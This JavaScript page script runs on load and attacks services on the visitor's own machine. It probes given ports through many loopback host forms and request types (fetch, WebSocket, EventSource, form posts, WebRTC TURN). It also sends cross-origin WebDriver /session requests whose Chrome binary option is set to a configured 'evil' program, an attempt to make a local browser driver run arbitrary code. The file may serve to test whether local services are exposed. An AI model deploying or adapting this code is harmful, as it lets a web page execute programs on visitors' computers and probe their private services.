// Knocks at every port of settings.ports in every way that a page has, and asks drivers to start settings.evil.
const HOSTS = ["localhost", "127.0.0.1", "[::1]", "0.0.0.0", "127.0.0.2", "localhost.", "any.localhost", "[::ffff:127.0.0.1]"];
const PATIENCE_MS = 2500;

const capabilities = (binary) =>
  JSON.stringify({ capabilities: { alwaysMatch: { browserName: "chrome", "goog:chromeOptions": { binary } } } });

const attempts = [];
const attempt = (start) => attempts.push(new Promise((resolve) => start(resolve)));
const patient = () => new Promise((resolve) => setTimeout(resolve, PATIENCE_MS));

function element(kind, source) {
  attempt((resolve) => {
    const made = document.createElement(kind);
    made.onload = made.onerror = resolve;
    made[kind === "link" ? "href" : "src"] = source;
    if (kind === "link") made.rel = "stylesheet";
    document.body.append(made);
  });
}

function knock(host, port) {
  const origin = `http://${host}:${port}`;
  for (const binary of settings.evil.split(" ")) {
    const post = { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" } };
    attempt((resolve) => fetch(`${origin}/session`, { ...post, body: capabilities(binary) }).then(resolve, resolve));
  }
  for (const kind of ["img", "iframe", "script", "link"]) element(kind, `${origin}/${kind}`);
  element("img", `/redirect?to=${encodeURIComponent(origin + "/redirected")}`);
  navigator.sendBeacon(`${origin}/beacon`, "x");
  attempt((resolve) => {
    const line = new WebSocket(`ws://${host}:${port}/websocket`);
    line.onopen = line.onerror = resolve;
  });
  attempt((resolve) => {
    const line = new EventSource(`${origin}/events`);
    line.onopen = resolve;
    line.onerror = () => (line.close(), resolve());
  });
  const frame = document.createElement("iframe");
  frame.name = `${host} ${port}`;
  const form = document.createElement("form");
  Object.assign(form, { action: `${origin}/form`, method: "post", enctype: "text/plain", target: frame.name });
  document.body.append(frame, form);
  form.submit();
}

function call(port) {
  attempt((resolve) => {
    const iceServers = [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: "a", credential: "b" }];
    const line = new RTCPeerConnection({ iceServers });
    line.createDataChannel("x");
    line.onicegatheringstatechange = () => line.iceGatheringState === "complete" && resolve();
    line.createOffer().then((offer) => line.setLocalDescription(offer));
  });
}

function attack() {
  for (const port of settings.ports.split(" ")) {
    for (const host of HOSTS) knock(host, port);
    call(port);
  }
  Promise.race([Promise.allSettled(attempts), patient()]).then(() => {
    document.getElementById("results").textContent = `${attempts.length} attacks done`;
  });
}

addEventListener("load", attack);
